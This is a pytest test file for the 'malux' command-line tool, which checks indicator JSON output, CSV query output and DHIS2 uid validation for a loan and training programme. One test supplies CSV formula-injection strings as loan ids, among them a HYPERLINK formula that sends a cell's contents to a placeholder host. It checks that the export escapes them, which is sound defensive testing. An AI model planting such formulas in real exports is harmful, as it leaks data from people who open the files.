"""`malux query`, `indicators show --format json` and `export dhis2`, as a user runs them (DHIS2 in detail:
test_dhis2_export.py, test_dhis2_check.py)."""

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from malux.cli.main import app

runner = CliRunner()


@pytest.fixture
def computed(warehouse, monkeypatch):
    """May–June 2019 with two producers (one without a valid phone) and a late loan, computed."""
    monkeypatch.setenv("MALUX_CONFIG_DIR", str(warehouse.config_dir))
    warehouse.beneficiary("P1", cercle="San")
    warehouse.beneficiary("P2", cercle="Tominian", gender="M", phone_valid=False)
    warehouse.session("S1", held_on="2019-05-10")
    warehouse.attended("S1", "P1")
    warehouse.attended("S1", "P2")
    warehouse.loan("L1", principal=1_000_000, maturity="2019-05-30").repaid(400_000, on="2019-05-30")
    warehouse.compute("201903B")
    return warehouse


def _shown(period: str = "201903B") -> list[dict]:
    result = runner.invoke(app, ["indicators", "show", "--period", period, "--format", "json"])
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def _total(rows: list[dict], indicator: str) -> dict:
    return next(r for r in rows if r["indicator"] == indicator and r["disaggregation"] == {})


def test_indicators_show_json_has_the_fields_of_issue_5_then_the_kind_and_the_note(computed):
    rows = _shown()
    fields = ["indicator", "period", "disaggregation", "numerator", "denominator", "value", "target"]
    assert all(list(r) == [*fields, "aggregation", "note"] for r in rows)
    coverage = next(r for r in rows if r["indicator"] == "contact_coverage" and r["disaggregation"] == {})
    assert (coverage["numerator"], coverage["denominator"], coverage["value"]) == (1, 2, 0.5)
    producers = next(
        r for r in rows if r["indicator"] == "trained_producers" and r["disaggregation"] == {"cercle": "San"}
    )
    assert (producers["value"], producers["period"]) == (1, "201903B")


def test_indicators_show_json_says_what_kind_of_number_each_value_is(computed):
    rows = _shown()
    kinds = {
        i: _total(rows, i)["aggregation"] for i in ("loans_disbursed_count", "trained_producers", "par30")
    }
    assert kinds == {"loans_disbursed_count": "period", "trained_producers": "to_date", "par30": "at_end"}


def test_indicators_show_json_gives_the_stored_reason_of_an_empty_value(computed):
    rate = _total(_shown(), "sms_delivery_rate")  # no SMS in May–June 2019
    assert (rate["value"], rate["note"]) == (None, "no SMS accepted by the gateway in the period")


def test_indicators_show_json_writes_a_count_indicator_as_integers(computed):
    producers = _total(_shown(), "trained_producers")  # P1 and P2 attended S1 on 10 May
    assert [type(producers[f]) for f in ("numerator", "value", "target")] == [int, int, int]
    assert (producers["numerator"], producers["value"], producers["target"]) == (2, 2, 2000)


def test_query_prints_csv_of_a_view(computed):
    sql = "SELECT loan_id, outstanding_xof FROM mart_loan_portfolio"
    result = runner.invoke(app, ["query", sql, "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == ["loan_id,outstanding_xof", "L1,600000.0"]


@pytest.mark.parametrize(
    "loan_id", ['=HYPERLINK("http://x.example/?d="&A1,"see")', "=1+1", "+1", "-1", "@SUM(A1)", "\tL9", "\rL9"]
)
def test_query_csv_writes_formula_like_text_as_text_and_numbers_as_numbers(computed, loan_id):
    computed.loan(loan_id, principal=250_000, maturity="2019-05-30").repaid(50_000, on="2019-05-30")
    sql = "SELECT loan_id, principal_xof, outstanding_xof FROM mart_loan_portfolio ORDER BY principal_xof"
    result = runner.invoke(app, ["query", sql, "--format", "csv"])
    assert result.exit_code == 0, result.output
    row, _ = list(csv.reader(io.StringIO(result.stdout)))[1:]  # 250 000 sorts before L1's 1 000 000
    assert row == ["'" + loan_id, str(250_000.0), str(250_000.0 - 50_000)]


def test_a_mistyped_dhis2_uid_is_refused_before_any_export(computed):
    path = computed.config_dir / "dhis2.yaml"
    path.write_text(
        path.read_text(encoding="utf-8").replace("program_org_unit: ", "program_org_unit: x"), "utf-8"
    )
    result = runner.invoke(app, ["export", "dhis2", "--period", "201903B"])
    assert result.exit_code == 1 and "not DHIS2 uids" in result.output
